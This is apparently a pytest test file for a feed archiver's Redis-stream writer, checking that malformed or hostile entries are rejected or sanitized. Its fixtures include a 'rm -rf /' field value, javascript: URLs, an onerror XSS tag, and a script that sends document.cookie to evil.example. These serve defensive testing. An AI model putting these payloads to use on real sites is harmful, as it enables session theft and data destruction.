"""The writer re-validates every stream entry: what it cannot use goes to the rejected stream,
with its reason, and the writer goes on to store the good entries after it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import asdict
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import frontmatter
import pytest

from crawler.distributed.codec import article_entry, decode, event_entry
from crawler.items import ArticleItem
from tests.conftest import archive_files, write_config
from tests.distributed_helpers import Process, RedisServer, distributed_config, redis_server

pytest.importorskip("redis")

STREAM, REJECTED = "feedvault:articles", "feedvault:rejected"


def _item(n: int, **changes: Any) -> ArticleItem:
    item = ArticleItem(source="blog", feed_url="https://blog.example/feed.xml",
                       title=f"Article {n}", content=f"<p>Body of article {n}.</p>",
                       link=f"https://blog.example/{n}", guid=f"urn:blog:{n}",
                       date=datetime(2024, 1, 2, 3, 4, tzinfo=UTC))
    for name, value in changes.items():
        setattr(item, name, value)
    return item


def _raw(**fields: Any) -> dict[str, bytes]:
    """An article entry whose data is these fields, whatever their types."""
    data = {k: v for k, v in asdict(_item(0)).items() if k != "date"} | fields
    return {"kind": b"article", "data": json.dumps(data).encode()}


BAD: dict[str, tuple[dict[str, bytes], str]] = {
    "bad JSON": ({"kind": b"article", "data": b'{"source": "blog", '}, "not JSON"),
    "unknown source": (article_entry(_item(0, source="evil")), "'evil' is not in the writer's"),
    "title not a string": (_raw(title=["a"]), "ArticleItem.title: expected a string"),
    "date not a date": (_raw(date={"$datetime": "yesterday"}), "yesterday"),
    "date out of range": (article_entry(_item(0, date=datetime(0o1, 1, 1, tzinfo=UTC))),
                          "out of range"),
    "images not strings": (_raw(images={"a": 5}), "ArticleItem.images['a']: expected a string"),
    "title too long": (_raw(title="x" * 70_000), "more than 65536"),
    "javascript link": (article_entry(_item(0, link="javascript:alert(1)")),
                        "is not an http(s) URL"),
    "javascript cover": (article_entry(_item(0, cover=" JavaScript:alert(1)")),
                         "neither an http(s) URL nor a path"),
    "unknown field": (_raw(run="rm -rf /"), "unknown fields ['run']"),
    "foreign fields": ({"cmd": b"x"}, "expected the fields kind and data"),
    "unknown kind": ({"kind": b"exec", "data": b"{}"}, "unknown stream entry kind 'exec'"),
    "event of an unknown source": (event_entry("problem", "evil", message="x"),
                                   "'evil' is not in the writer's"),
    "count event with a bad status": (event_entry("count", "blog", status="pwned", n=1),
                                      "count event with status 'pwned'"),
}


def test_every_kind_of_malformed_entry_is_rejected_with_its_reason(
        tmp_path: Path, redis: RedisServer) -> None:
    config = _config(tmp_path, redis)
    for n, (entry, _) in enumerate(BAD.values()):
        redis.client.xadd(STREAM, entry)
        redis.client.xadd(STREAM, article_entry(_item(n)))  # a good one after each bad one
    writer = _write(tmp_path, config)
    assert writer.output.count("rejected stream entry") == len(BAD), writer.output
    rejected = [r[b"reason"].decode() for _, r in redis.client.xrange(REJECTED)]
    for (case, (_, reason)), found in zip(BAD.items(), rejected, strict=True):
        assert reason in found, (case, found)
    assert len(archive_files(tmp_path / "posts")) == len(BAD)


@pytest.fixture
def redis(tmp_path: Path) -> Iterator[RedisServer]:
    with redis_server(tmp_path) as server:
        yield server


def _config(tmp_path: Path, redis: RedisServer) -> Path:
    return write_config(tmp_path, [{"name": "blog", "url": "https://blog.example/feed.xml"}],
                        extra=distributed_config(redis.url))


def _write(tmp_path: Path, config: Path) -> Process:
    writer = Process(tmp_path, "writer", "writer", "--config", config, "--idle", "1")
    assert writer.wait(timeout=120) == 0, writer.output
    assert "Traceback" not in writer.output
    return writer


def test_a_stream_of_good_and_bad_entries_is_written_past_the_bad_ones(
        tmp_path: Path, redis: RedisServer) -> None:
    config = _config(tmp_path, redis)
    script = _item(2, content='<p>Hello</p><script>fetch("https://evil.example/"+'
                              'document.cookie)</script><img src=x onerror="alert(1)">')
    entries = [article_entry(_item(1)), BAD["bad JSON"][0], BAD["unknown source"][0],
               BAD["title not a string"][0], article_entry(script), article_entry(_item(3))]
    for entry in entries:
        redis.client.xadd(STREAM, entry)
    writer = _write(tmp_path, config)
    posts = {frontmatter.load(p)["title"]: frontmatter.load(p).content
             for p in archive_files(tmp_path / "posts")}
    assert sorted(posts) == ["Article 1", "Article 2", "Article 3"]
    assert "Hello" in posts["Article 2"]
    assert "<script" not in posts["Article 2"] and "evil.example" not in posts["Article 2"]
    assert "onerror" not in posts["Article 2"]
    assert "stored sanitized" in writer.output
    rejected = redis.client.xrange(REJECTED)
    assert len(rejected) == 3
    assert [r[b"data"] for _, r in rejected] == [e["data"] for e in entries[1:4]]  # kept whole
    assert all(r[b"id"] and r[b"reason"] for _, r in rejected)
    assert writer.output.count("rejected stream entry") == 3
    assert "writer: 3 stream entries rejected, kept in feedvault:rejected" in writer.stdout
    assert redis.client.xlen(STREAM) == 0  # every entry acknowledged and deleted
    assert redis.client.xpending(STREAM, "writer")["pending"] == 0
    # a second writer finds nothing to re-claim: the bad entries do not come back
    second = _write(tmp_path, config)
    assert "rejected" not in second.output and "claimed" not in second.output


def _read(entry: dict[str, bytes]) -> dict[bytes, bytes]:
    return {k.encode(): v for k, v in entry.items()}  # as redis-py gives it back


def test_decode_rebuilds_what_a_worker_sent() -> None:
    item = _item(4, media_images=["https://blog.example/a.png"], cover="https://blog.example/c",
                 images={"https://blog.example/a.png": "/img/a.png"}, language="en")
    assert decode(_read(article_entry(item))) == ("article", item)
    assert decode(_read(event_entry("count", "blog", status="new", n=2))) == (
        "count", {"source": "blog", "status": "new", "n": 2})


def test_the_writer_writes_the_archive_the_configuration_describes(
        tmp_path: Path, redis: RedisServer) -> None:
    """Preset, body and front-matter format travel together: a hugo + markdown + toml archive
    gets Markdown files with TOML front matter from the writer too (it wrote HTML and YAML)."""
    config = _config(tmp_path, redis)
    text = config.read_text().replace('preset = "hexo"', 'preset = "hugo"\nbody = "markdown"\n'
                                      'front_matter_format = "toml"')
    config.write_text(text)
    redis.client.xadd(STREAM, article_entry(_item(1, content="<p>Body <b>one</b>.</p>")))
    _write(tmp_path, config)
    [path] = archive_files(tmp_path / "posts")
    assert path.suffix == ".md"
    text = path.read_text()
    assert text.startswith("+++\n"), text  # TOML front matter
    assert "Body **one**." in text and "<p>" not in text
